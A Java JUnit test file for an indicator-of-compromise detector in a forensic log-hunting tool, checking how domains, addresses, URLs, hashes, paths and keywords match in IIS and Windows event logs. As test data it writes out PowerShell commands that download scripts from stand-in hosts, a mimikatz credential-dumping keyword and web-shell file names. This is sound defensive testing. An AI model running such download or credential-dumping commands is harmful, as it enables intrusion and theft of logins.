package dwell.ioc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dwell.evidence.EvidenceItem;
import dwell.format.Format;
import dwell.hunt.Finding;
import dwell.hunt.Level;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Matching semantics per indicator type, through the detector. */
class MatchingTest {
    @TempDir
    Path dir;

    private IocDetector detector(String csv) throws Exception {
        Path f = dir.resolve("feed-" + System.nanoTime() + ".csv");
        Files.writeString(f, "type,value,score\n" + csv);
        IocDetector d = IocDetector.load(List.of(f));
        assertEquals(0, d.feeds().get(0).rejectedCount(), d.feeds().get(0).rejected().toString());
        return d;
    }

    private static List<String> values(IocDetector d, dwell.event.Event e) {
        return d.match(e).stream().map(h -> h.ioc().value().text()).toList();
    }

    @Test
    void domainsMatchTheirSubdomainsOnly() throws Exception {
        IocDetector d = detector("domain,evil.example,\n");
        assertEquals(1, d.match(Events.iis("cs-host", "evil.example")).size());
        assertEquals(1, d.match(Events.iis("cs-host", "a.b.EVIL.example:443")).size(), "sub-domain, case and port");
        assertEquals(1, d.match(Events.iis("cs-host", "evil.example.")).size(), "trailing dot");
        assertEquals(0, d.match(Events.iis("cs-host", "notevil.example")).size());
        assertEquals(0, d.match(Events.iis("cs-host", "evil.example.org")).size());
        // in text fields: the same rules at the edges of the name
        assertEquals(1, d.match(Events.iis("cs-uri-query", "u=https://x.evil.example/p")).size());
        assertEquals(0, d.match(Events.iis("cs-uri-query", "u=https://notevil.example/p")).size());
        assertEquals(0, d.match(Events.iis("cs-uri-query", "u=https://evil.example.org/p")).size());
        assertEquals(1, d.match(Events.iis("cs-uri-query", "host=evil.example.")).size(), "a sentence-ending dot");
        // an event without any host, URL or text field: raw text fallback
        assertEquals(1, d.match(Events.raw("Mar 3 04:05:06 fw query evil.example from 10.0.0.1")).size());
        assertEquals(0, d.match(Events.raw("Mar 3 04:05:06 fw query notevil.example")).size());
        // an event with a host field is not searched in its raw text
        assertEquals(0, d.match(Events.of(Format.JSON, "Host", "good.example", "note", "evil.example")).size());
    }

    @Test
    void addressesAndRangesAtTheirBoundaries() throws Exception {
        IocDetector d = detector("ip,203.0.113.10,\ncidr,198.51.100.0/25,\nip-dst,2001:db8::10,\ncidr,2001:db8:1::/48,\n");
        assertEquals(List.of("203.0.113.10"), values(d, Events.iis("c-ip", "203.0.113.10")));
        assertEquals(List.of(), values(d, Events.iis("c-ip", "203.0.113.100")));
        assertEquals(List.of("198.51.100.0/25"), values(d, Events.iis("c-ip", "198.51.100.0")));
        assertEquals(List.of("198.51.100.0/25"), values(d, Events.iis("c-ip", "198.51.100.127")));
        assertEquals(List.of(), values(d, Events.iis("c-ip", "198.51.100.128")));
        assertEquals(List.of(), values(d, Events.iis("c-ip", "198.51.99.255")));
        assertEquals(List.of("2001:db8::10"), values(d, Events.iis("c-ip", "2001:DB8:0:0::10")));
        assertEquals(List.of("2001:db8:1::/48"), values(d, Events.iis("c-ip", "2001:db8:1:ffff:ffff:ffff:ffff:ffff")));
        assertEquals(List.of(), values(d, Events.iis("c-ip", "2001:db8:2::")));
        assertEquals(List.of("203.0.113.10"), values(d, Events.iis("c-ip", "::ffff:203.0.113.10")), "v4-mapped");
        assertEquals(List.of("203.0.113.10"), values(d, Events.iis("cs(X-Forwarded-For)", "10.0.0.1, 203.0.113.10")), "lists");
        assertEquals(List.of("203.0.113.10"), values(d, Events.of(Format.EVTX, "IpAddress", "203.0.113.10", "IpPort", "5555")));
        assertEquals(List.of(), values(d, Events.iis("c-ip", "10.0.0.1", "cs-uri-query", "x=203.0.113.10")),
                "addresses are looked for in address fields; raw text only when the event has none");
        // raw fallback with number boundaries
        assertEquals(List.of("203.0.113.10"), values(d, Events.raw("conn from 203.0.113.10:4444 refused")));
        assertEquals(List.of(), values(d, Events.raw("conn from 203.0.113.101 refused")));
        assertEquals(List.of(), values(d, Events.raw("version 1203.0.113.10")));
    }

    @Test
    void urlsNormalised() throws Exception {
        IocDetector d = detector("url,HTTPS://Mail.Victim.example:443/owa/auth/%7Eerr.aspx,\nurl,http://drop.example/x.js?id=1,\n");
        assertEquals(1, d.match(Events.iis("cs(Referer)", "https://mail.victim.example/owa/auth/~err.aspx?x=1")).size(),
                "case, default port, escapes; a query does not hide the URL");
        assertEquals(1, d.match(Events.iis("cs-host", "MAIL.victim.example", "cs-uri-stem", "/owa/auth/~err.aspx", "cs-uri-query", "-")).size(),
                "rebuilt from host + stem");
        assertEquals(0, d.match(Events.iis("cs-host", "mail.victim.example", "cs-uri-stem", "/owa/auth/other.aspx")).size());
        assertEquals(1, d.match(Events.iis("cs(Referer)", "http://drop.example/x.js?id=1")).size());
        assertEquals(0, d.match(Events.iis("cs(Referer)", "http://drop.example/x.js?id=2")).size(), "an indicator's query must match");
        assertEquals(1, d.match(Events.of(Format.EVTX, "CommandLine", "powershell iwr http://drop.example/x.js?id=1 -o a")).size(),
                "substring in a command line");
        assertEquals(0, d.match(Events.of(Format.EVTX, "CommandLine", "powershell iwr http://drop.example/x.js?id=12")).size());
    }

    @Test
    void hashesInSysmonHashesFieldAndPlainFields() throws Exception {
        String sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        String md5 = "d41d8cd98f00b204e9800998ecf8427e";
        IocDetector d = detector("sha256," + sha256 + ",90\nmd5," + md5 + ",40\n");
        List<Finding> out = new ArrayList<>();
        d.onEvent(Events.of(Format.EVTX, "Image", "C:\\x.exe",
                "Hashes", "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256="
                        + sha256.toUpperCase() + ",IMPHASH=00000000000000000000000000000000"), out::add);
        assertEquals(2, out.size(), "two indicators, two findings");
        Finding bySha = out.stream().filter(f -> f.details().get("type").equals("sha256")).findFirst().orElseThrow();
        Finding byMd5 = out.stream().filter(f -> f.details().get("type").equals("md5")).findFirst().orElseThrow();
        assertEquals(Level.CRITICAL, bySha.rule().level(), "score 90");
        assertEquals(Level.LOW, byMd5.rule().level(), "score 40");
        assertEquals("Hashes", bySha.details().get("field"));
        assertEquals("sha256", bySha.indicators().get(0).type());
        assertEquals(sha256, bySha.indicators().get(0).value());
        assertEquals(1, d.match(Events.of(Format.JSON, "sha256", sha256)).size());
        assertEquals(0, d.match(Events.of(Format.EVTX, "Hashes", "IMPHASH=" + md5)).size(), "an import hash is not a file hash");
        assertEquals(0, d.match(Events.of(Format.EVTX, "CommandLine", "echo " + sha256)).size(), "hashes are looked for in hash fields");
    }

    @Test
    void fileNamesPathsAndUserAgents() throws Exception {
        IocDetector d = detector("filename,supp0rt.aspx,\nfilepath,C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx,\n"
                + "filename,*.tmp.exe,\nuser-agent,ExchangeScan 2.1,\n");
        assertEquals(List.of("supp0rt.aspx"), values(d, Events.iis("cs-uri-stem", "/owa/auth/SUPP0RT.aspx")));
        assertEquals(List.of("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx"),
                values(d, Events.of(Format.EVTX, "TargetFilename", "c:\\INETPUB\\wwwroot\\aspnet_client\\system_web\\x.aspx")));
        assertEquals(List.of(), values(d, Events.iis("cs-uri-stem", "/aspnet_client/system_web/x.aspx")),
                "a web path is only the tail of the file path: not enough");
        assertEquals(List.of("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx"),
                values(d, Events.of(Format.EVTX, "TargetFilename", "D:\\copy\\C\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx")),
                "a longer path ending with it at a directory boundary");
        assertEquals(List.of("*.tmp.exe"), values(d, Events.of(Format.EVTX, "Image", "C:\\Temp\\a1b2.TMP.exe")));
        assertEquals(List.of("ExchangeScan 2.1"), values(d, Events.iis("cs(User-Agent)", "Mozilla/5.0+ExchangeScan+2.1")),
                "IIS writes spaces as +");
        assertEquals(List.of(), values(d, Events.iis("cs(User-Agent)", "Mozilla/5.0")));
    }

    @Test
    void evidenceItemsByHashAndPath() throws Exception {
        Path file = dir.resolve("evidence.bin");
        Files.writeString(file, "");
        String md5 = "d41d8cd98f00b204e9800998ecf8427e";
        String sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        IocDetector d = detector("md5," + md5 + ",\nfilename,shell.aspx,\n");
        assertTrue(d.wantsItems());
        List<Finding> out = new ArrayList<>();
        d.onItem(new EvidenceItem("web.zip!/wwwroot/shell.aspx", 0, null, sha256, Format.UNKNOWN), file, out::add);
        assertEquals(2, out.size());
        assertEquals(java.util.Set.of("file-md5", "evidence-path"),
                java.util.Set.of(out.get(0).details().get("field"), out.get(1).details().get("field")),
                "md5 computed because the feed has an md5; the name from the member path");
        assertEquals("web.zip!/wwwroot/shell.aspx", out.get(0).evidence().path());
        assertEquals(sha256, out.get(0).evidence().sha256());
        assertFalse(detector("domain,evil.example,\n").wantsItems(), "no file indicators: no items needed");
    }

    @Test
    void keywordsAreCaseSensitiveRawText() throws Exception {
        Path f = dir.resolve("keywords.txt");
        Files.writeString(f, "sekurlsa::logonpasswords\n");
        IocDetector d = IocDetector.load(List.of(f));
        assertEquals(1, d.match(Events.of(Format.EVTX, "CommandLine", "mimikatz sekurlsa::logonpasswords exit")).size());
        assertEquals(0, d.match(Events.of(Format.EVTX, "CommandLine", "SEKURLSA::LOGONPASSWORDS")).size());
    }

    @Test
    void seenStatistics() throws Exception {
        IocDetector d = detector("ip,203.0.113.10,\nip,203.0.113.11,\n");
        List<Finding> out = new ArrayList<>();
        for (int i = 0; i < 3; i++) d.onEvent(Events.iis("c-ip", "203.0.113.10"), out::add);
        FeedStats st = d.feeds().get(0);
        assertEquals(2, st.loaded());
        assertEquals(1, st.seen());
        assertEquals(3, st.hits());
        assertTrue(st.summaryLine().endsWith("2 loaded, 0 rejected, 1 seen"), st.summaryLine());
    }

    @Test
    void textTokensPercentEncodingEmailAndRangesInRawText() throws Exception {
        IocDetector d = detector("domain,evil.example,\nemail,Bad.Actor@evil.example,\ncidr,203.0.113.0/24,\n");
        assertEquals(List.of("evil.example"), values(d, Events.iis("c-ip", "10.0.0.1", "cs-uri-query",
                "url=https%3a%2f%2fcdn.evil.example%2fx")), "percent-encoded text is searched decoded");
        assertEquals(List.of("bad.actor@evil.example", "evil.example"), values(d, Events.of(Format.EXCHANGE_MSGTRK,
                "sender-address", "SMTP:BAD.ACTOR@evil.example")), "the e-mail in its field, its domain by the raw-text fallback (the event has no host field)");
        assertEquals(List.of("203.0.113.0/24"), values(d, Events.raw("sshd: Failed password from 203.0.113.77 port 22")),
                "ranges in the raw-text fallback");
        assertEquals(List.of(), values(d, Events.raw("sshd: Failed password from 203.0.113.777 port 22")));
    }

    @Test
    void negatedConditionsOfAStixObservation() throws Exception {
        Path f = dir.resolve("neg.json");
        Files.writeString(f, "{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":[{\"type\":\"indicator\",\"id\":\"indicator--1\","
                + "\"pattern_type\":\"stix\",\"pattern\":\"[domain-name:value = 'evil.example' AND domain-name:value != 'cdn.evil.example']\"}]}");
        IocDetector d = IocDetector.load(List.of(f));
        assertEquals(1, d.match(Events.iis("cs-host", "mail.evil.example")).size());
        assertEquals(0, d.match(Events.iis("cs-host", "cdn.evil.example")).size(), "the excluded sub-domain");
    }

    @Test
    void placementIsConfigurable() throws Exception {
        Path f = dir.resolve("ips.txt");
        Files.writeString(f, "203.0.113.10\n");
        String yaml = "roles:\n  source-address: [attacker]\ntypes:\n  ipv4: {roles: [source-address], raw-fallback: false}\n";
        FieldPlacement custom = FieldPlacement.load(new java.io.ByteArrayInputStream(yaml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        IocDetector d = IocDetector.load(List.of(f), custom);
        assertEquals(1, d.match(Events.of(Format.JSON, "Attacker", "203.0.113.10")).size(), "field names are also matched case-insensitively");
        assertEquals(0, d.match(Events.iis("c-ip", "203.0.113.10")).size(), "c-ip plays no role in this table");
        assertEquals(0, d.match(Events.raw("from 203.0.113.10")).size(), "no raw fallback in this table");
        org.junit.jupiter.api.Assertions.assertThrows(java.io.IOException.class, () -> FieldPlacement.load(
                new java.io.ByteArrayInputStream("roles:\n  nonsense: [x]\ntypes: {}\n".getBytes(java.nio.charset.StandardCharsets.UTF_8))));
    }

    @Test
    void placementReadsTheFieldRoleTable() throws Exception {
        Path f = dir.resolve("ips.txt");
        Files.writeString(f, "203.0.113.10\n");
        dwell.event.Event e = Events.of(Format.JSON, "attacker_ip", "203.0.113.10", "s-ip", "10.0.0.5");
        assertEquals(0, IocDetector.load(List.of(f)).match(e).size(), "no role, and an address field keeps raw text out");
        FieldPlacement taught = placement(dwell.event.TestRoles.withField(dwell.event.FieldRole.CLIENT_ADDRESS, "attacker_ip"));
        assertEquals(List.of("attacker_ip"), IocDetector.load(List.of(f), taught).match(e).stream().map(Hit::field).toList());
        assertEquals(Role.bit(Role.SOURCE_ADDRESS), taught.roles("ATTACKER_IP"), "a client address is a source address");
        FieldPlacement builtin = FieldPlacement.builtin();
        assertEquals(Role.bit(Role.DESTINATION_ADDRESS), builtin.roles("s-ip"));
        assertEquals(Role.bit(Role.URL_PATH) | Role.bit(Role.PATH), builtin.roles("cs-uri-stem"), "a URL path is also a file's path");
        assertEquals(Role.bit(Role.URL_QUERY) | Role.bit(Role.TEXT), builtin.roles("UrlQuery"), "a query is searched as text");
        assertEquals(Role.bit(Role.TEXT), builtin.roles("CMD"), "the ECP server log's command");
        assertEquals(Role.bit(Role.HOST), builtin.roles("UrlHost"), "HttpProxy's requested host is a host, not a URL");
        assertEquals(Role.bit(Role.USER_AGENT), builtin.roles("UA"));
        assertEquals(Role.bit(Role.EMAIL), builtin.roles("AnchorMailbox"));
        assertEquals(Role.bit(Role.PATH), builtin.roles("winlog.event_data.ParentImage"));
        assertEquals(0, builtin.roles("TargetUserName"), "accounts are no indicator type");
    }

    @Test
    void winlogbeatEventDataIsReadByItsRoles() throws Exception {
        IocDetector d = detector("domain,evil.example,\nip,203.0.113.10,\n");
        assertEquals(List.of("winlog.event_data.CommandLine"), d.match(Events.of(Format.JSON, "winlog.event_data.CommandLine",
                "powershell iwr https://x.evil.example/a.ps1", "winlog.event_data.DestinationIp", "10.0.0.1"))
                .stream().map(Hit::field).toList(), "the command line, not the raw text");
        assertEquals(0, d.match(Events.of(Format.JSON, "winlog.event_data.DestinationIp", "10.0.0.1",
                "winlog.event_data.Details", "seen 203.0.113.10")).size(), "an event with an address field is not searched raw for addresses");
    }

    @Test
    void aTableOfFieldRolesAndNamedFields() throws Exception {
        Path f = dir.resolve("ips.txt");
        Files.writeString(f, "203.0.113.10\n");
        String yaml = "field-roles:\n  source-address: [client-address]\nroles:\n  source-address: [vpn_client]\n"
                + "types:\n  ipv4: {roles: [source-address], raw-fallback: false}\n";
        FieldPlacement p = FieldPlacement.load(new java.io.ByteArrayInputStream(yaml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        IocDetector d = IocDetector.load(List.of(f), p);
        assertEquals(1, d.match(Events.iis("c-ip", "203.0.113.10")).size());
        assertEquals(1, d.match(Events.of(Format.JSON, "winlog.event_data.VPN_Client", "203.0.113.10")).size());
        assertEquals(0, d.match(Events.of(Format.JSON, "DestinationIp", "203.0.113.10")).size());
        java.io.IOException bad = org.junit.jupiter.api.Assertions.assertThrows(java.io.IOException.class, () -> FieldPlacement.load(
                new java.io.ByteArrayInputStream("field-roles:\n  host: [hostess]\ntypes: {}\n".getBytes(java.nio.charset.StandardCharsets.UTF_8))));
        assertTrue(bad.getMessage().contains("hostess"), bad.getMessage());
        org.junit.jupiter.api.Assertions.assertThrows(java.io.IOException.class, () -> FieldPlacement.load(
                new java.io.ByteArrayInputStream("types: {}\n".getBytes(java.nio.charset.StandardCharsets.UTF_8))));
    }

    private static FieldPlacement placement(dwell.event.FieldRoles roles) throws Exception {
        try (java.io.InputStream in = FieldPlacement.class.getResourceAsStream("/dwell/ioc/placement.yaml")) {
            return FieldPlacement.load(in, roles);
        }
    }

    @Test
    void sharedBetweenThreads() throws Exception {
        IocDetector d = detector("ip,203.0.113.10,\ndomain,evil.example,\n");
        java.util.concurrent.atomic.AtomicInteger findings = new java.util.concurrent.atomic.AtomicInteger();
        java.util.stream.IntStream.range(0, 20_000).parallel().forEach(i -> d.onEvent(
                Events.iis("c-ip", i % 2 == 0 ? "203.0.113.10" : "10.0.0." + (i % 250), "cs-host",
                        i % 5 == 0 ? "x" + i + ".evil.example" : "mail.contoso.com"), f -> findings.incrementAndGet()));
        assertEquals(10_000 + 4_000, findings.get());
        assertEquals(2, d.feeds().get(0).seen());
        assertEquals(14_000, d.feeds().get(0).hits());
    }
}
